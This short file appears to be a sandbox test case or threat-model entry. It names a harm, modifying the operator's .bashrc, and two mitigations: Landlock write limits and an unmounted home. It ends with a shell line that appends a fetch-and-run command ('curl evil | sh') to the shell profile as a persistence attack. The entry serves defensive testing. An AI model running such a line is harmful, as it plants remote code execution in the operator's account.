# title: adds a line to the operator's shell profile
# harm: changes ${OP_HOME}/.bashrc
# B: Landlock grants no writing below the home
# C: the home is not mounted
echo 'curl evil | sh' >> "$OP_HOME/.bashrc"
